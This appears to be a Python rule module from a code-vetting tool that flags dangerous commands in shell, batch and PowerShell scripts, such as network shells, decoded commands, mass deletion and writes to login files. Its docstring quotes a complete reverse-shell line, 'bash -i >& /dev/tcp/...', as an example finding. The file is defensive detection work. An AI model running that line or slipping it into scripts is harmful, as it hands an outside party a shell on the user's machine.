"""A script opens a shell to others, runs what it decodes, or destroys.

What it finds:
    Lines of shell, batch and PowerShell scripts with network shells, decoded commands, deletion of everything and writing to login files.

Why it matters:
    Whoever follows the instructions of the model runs the script with all rights.

Example:
    ``bash -i >& /dev/tcp/203.0.113.1/443 0>&1`` in ``setup.sh``.

Remedy:
    Do not run it.

What it cannot see:
    Commands that are put together from variables.

References:
    CWE-506; MITRE ATT&CK T1059.
"""

from __future__ import annotations

from collections.abc import Iterator

from openvet.checks._check import Context
from openvet.core.finding import Finding
from openvet.core.rule import Confidence, Rule, Severity

__all__ = ["RULE", "check"]

RULE = Rule(
    id="shell/dangerous-command", severity=Severity.HIGH, confidence=Confidence.MEDIUM, since="0.1.0", cwe=(506,)
)


def check(ctx: Context) -> Iterator[Finding]:
    """One finding for each that the reader recorded."""
    yield from ctx.anomalies("Do not run it.")
